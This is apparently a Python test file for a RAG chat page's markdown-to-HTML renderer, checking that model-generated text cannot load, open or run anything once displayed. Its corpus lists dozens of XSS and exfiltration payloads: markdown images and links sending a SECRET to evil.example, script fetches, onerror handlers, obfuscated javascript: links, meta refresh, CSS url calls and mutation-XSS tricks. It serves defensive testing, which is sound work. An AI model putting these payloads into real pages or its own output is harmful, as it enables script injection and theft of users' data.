"""A model's text becomes HTML that loads, opens and runs nothing, whatever the text is."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ragkit.types import Claim, Support
from ragkit_serve.page.markdown import plain, to_html
from ragkit_serve.page.words import WORDS

EN = WORDS["en"]
TAGS = {
    *("p", "br", "hr", "strong", "em", "s", "code", "pre", "ul", "ol", "li", "blockquote"),
    *("h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
    *("mark", "button", "span"),
}
ATTRIBUTES = {"class", "title", "type", "data-n", "aria-label", "start"}
# Ways out of a chat page that were found in others, and relatives of them.
CORPUS = (
    "![x](http://evil.example/a.png?q=SECRET)",
    "![x](//evil.example/a.png)",
    "![x][r]\n\n[r]: http://evil.example/a.png",
    "[x][r]\n\n[r]: http://evil.example/a",
    "[r]\n\n[r]: <http://evil.example/a> 'title'",
    "[x](http://evil.example)",
    "[x](<http://evil.example>)",
    "[![x](http://evil.example/a.png)](http://evil.example)",
    "![![x](http://evil.example/a.png)](http://evil.example/b.png)",
    "<http://evil.example>",
    "<mailto:a@evil.example>",
    "http://evil.example/a www.evil.example",
    "<img src=http://evil.example/a.png>",
    "<img\nsrc=http://evil.example/a.png\nonerror=alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    "<svg><image href='http://evil.example/a.png'/></svg>",
    "<svg onload=alert(1)>",
    "<svg><style>@import 'http://evil.example/a.css'</style></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe src=http://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=http://evil.example></object><embed src=http://evil.example>",
    "<script>fetch('http://evil.example')</script>",
    "<script src=http://evil.example></script>",
    "<style>body{background:url(http://evil.example)}</style>",
    "<link rel=stylesheet href=http://evil.example>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example><button>x</button></form>",
    "<a href=http://evil.example ping=http://evil.example>x</a>",
    "<video poster=http://evil.example/a.png src=http://evil.example/a.mp4></video>",
    "<p style=background:url(http://evil.example)>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "&lt;img src=http://evil.example/a.png&gt;",
    "&#60;img src=http://evil.example/a.png&#62;",
    "<!-- <img src=http://evil.example/a.png> -->",
    "<!--><img src=http://evil.example/a.png>-->",
    "<![CDATA[<img src=http://evil.example/a.png>]]>",
    "<?xml version='1.0'?><img src=http://evil.example/a.png>",
    "`<img src=http://evil.example/a.png>`",
    "```html onmouseover=alert(1)\n<img src=http://evil.example/a.png>\n```",
    '```" onmouseover="alert(1)\nx\n```',
    "    <img src=http://evil.example/a.png>",
    "| a |\n|:-:|\n| <img src=http://evil.example/a.png> |",
    "> > - 1. ![x](http://evil.example/a.png)",
    "**<img src=http://evil.example/a.png>**",
    "\\![x](http://evil.example/a.png) \\<img src=x>",
    "!\u200b[x](http://evil.example/a.png)",
    "＜img src=http://evil.example/a.png＞",
    "<im\x00g src=http://evil.example/a.png>",
    "\u202e<img src=http://evil.example/a.png>",
    "[1](http://evil.example) [2]: http://evil.example",
    "[1]: http://evil.example/a.png\n\n![1]",
    "\ue000\ue003<img src=http://evil.example/a.png>\ue004\ue002",
    "<mark class=rk-cite title=x onclick=alert(1)>x</mark>",
    "<button class=rk-open data-do=delete data-id=x>x</button>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
)


class Read(HTMLParser):
    """What a browser would make of HTML: its tags and attributes, and its text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")


def check(html: str) -> Read:
    """Read HTML and see that nothing in it loads, opens or runs anything."""
    read = Read(html)
    for tag, attributes in read.tags:
        assert tag in TAGS, html
        assert attributes.keys() <= ATTRIBUTES, html
        assert attributes.get("class") in {None, "rk-cite", "rk-cites", "rk-weak", "rk-piece"}
        assert (attributes.get("data-n") or "1").isdigit()
    return read


@pytest.mark.parametrize("markdown", [True, False])
@pytest.mark.parametrize("text", CORPUS)
def test_nothing_gets_out(text: str, markdown: bool) -> None:
    claims = [Claim(0, len(text), (1,), "not found")]
    for marked in ((), claims):
        check(to_html(text, claims=marked, cited={1}, markdown=markdown, words=EN))
    check(f"<p>{plain(text)}</p>")


def test_the_corpus_would_get_out_of_an_ordinary_renderer() -> None:
    from markdown_it import MarkdownIt

    caught = 0
    for text in CORPUS:
        try:
            check(MarkdownIt("commonmark", {"html": True}).render(text))
        except AssertionError:
            caught += 1
    assert caught > 40


FRAGMENTS = st.sampled_from(
    [
        *("![", "[", "](", ")", "<", ">", "http://e.example", "\n", "\n\n", "]: ", "`", "```", "*"),
        *("_", "**", "<img src=x>", "&lt;", "javascript:", "[1]", "【2】", "- ", "1. ", "> ", "|"),
        *("\ue000", "\ue002", "\ue003", "\ue004", '"', "'", "&", "=", "a", "。", "\\"),
    ]
)


@given(st.lists(FRAGMENTS, max_size=30).map("".join), st.data())
def test_no_mixture_gets_out(text: str, data: st.DataObject) -> None:
    places = st.integers(0, len(text))
    spans = data.draw(st.lists(st.tuples(places, places), max_size=3))
    claims = [Claim(min(span), max(span), (1,), "partly") for span in spans]
    pieces = [text[min(span) : max(span)] for span in spans]
    for markdown in (True, False):
        check(to_html(text, claims=claims, unverified=pieces, markdown=markdown, words=EN))


def test_markdown_is_rendered() -> None:
    text = (
        "# A\n\n**b** *c* `d` ~~e~~\n\n3. f\n4. g\n\n"
        "| h | i |\n|---|---|\n| 1 | 2 |\n\n```py\nx < 1\n```"
    )
    assert to_html(text, words=EN).replace("\n", "") == (
        "<h1>A</h1><p><strong>b</strong> <em>c</em> <code>d</code> <s>e</s></p>"
        '<ol start="3"><li>f</li><li>g</li></ol>'
        "<table><thead><tr><th>h</th><th>i</th></tr></thead>"
        "<tbody><tr><td>1</td><td>2</td></tr></tbody></table>"
        "<pre><code>x &lt; 1</code></pre>"
    )


def test_links_and_images_are_shown_as_they_were_written() -> None:
    html = to_html("[here](http://a.example) ![b](c.png) <http://d.example>", words=EN)
    assert html == "<p>[here](http://a.example) ![b](c.png) &lt;http://d.example&gt;</p>"


def test_citations_become_buttons_and_other_numbers_stay_text() -> None:
    html = to_html("Yes [1, 3]. 是【2】。 `x[1]`", cited={1, 2}, words=EN)
    button = (
        '<button type="button" class="rk-cite" data-n="{0}" aria-label="Source {0}">{0}</button>'
    )
    assert html == (
        f'<p>Yes <span class="rk-cites">{button.format(1)}, 3</span>. '
        f'是<span class="rk-cites">{button.format(2)}</span>。 <code>x[1]</code></p>'
    )


def test_a_sentence_without_support_is_marked_across_its_markup() -> None:
    text = "Fine [1]. **Not** so fine."
    html = to_html(text, claims=[Claim(10, 26, (), "not found")], words=EN)
    mark = f'<mark class="rk-weak" title="{EN["claim_not_found"]}">'
    assert html.endswith(f"<strong>{mark}Not</mark></strong>{mark} so fine.</mark></p>")
    assert html.startswith('<p>Fine <span class="rk-cites">1</span>. <strong>')


@pytest.mark.parametrize("support", ["quoted", "supported"])
def test_what_is_quoted_or_supported_is_not_marked(support: Support) -> None:
    text = "It is so."
    html = to_html(text, claims=[Claim(0, 9, (1,), support)], words=EN)
    assert html == "<p>It is so.</p>"


def test_a_marked_list_item_and_heading_stay_what_they_are() -> None:
    text = "- one\n- two\n\n## head"
    claims = [Claim(0, 5, (), "partly"), Claim(6, 11, (), "partly"), Claim(13, 20, (), "partly")]
    html = to_html(text, claims=claims, words=EN)
    assert [tag for tag, _ in Read(html).tags] == ["ul", "li", "mark", "li", "mark", "h2", "mark"]


def test_pieces_that_no_source_has_are_marked_wherever_they_stand() -> None:
    html = to_html("Pay 77 or 77.", unverified=["77"], words=EN)
    mark = f'<mark class="rk-piece" title="{EN["piece"]}">77</mark>'
    assert html == f"<p>Pay {mark} or {mark}.</p>"


def test_plain_answers_are_no_markdown() -> None:
    html = to_html("# 5 * 3 * 2 [1]\nnext\n\nlast", cited=(), markdown=False, words=EN)
    assert html == '<p># 5 * 3 * 2 <span class="rk-cites">1</span><br>next</p><p>last</p>'


def test_quoted_items_are_a_list_and_sentences_with_a_number_in_front_are_none() -> None:
    def shown(text: str) -> str:
        return to_html(text, markdown=False, words=EN)

    assert shown("- a\n- b") == "<ul><li>a</li><li>b</li></ul>"
    assert shown("First:\n1. a\n2. b") == "<p>First:</p><ol><li>a</li><li>b</li></ol>"
    assert shown("3) c\n4) d") == '<ol start="3"><li>c</li><li>d</li></ol>'
    assert shown("2027. The lease ends.") == "<p>2027. The lease ends.</p>"
    assert shown("1. a\n5. b") == "<p>1. a<br>5. b</p>"


def test_characters_that_turn_or_control_are_replaced() -> None:
    assert to_html("a\u202eb\x07c\x00", words=EN) == "<p>a\ufffdb\ufffdc\ufffd</p>"
    assert plain("<\u2066>") == "&lt;\ufffd&gt;"
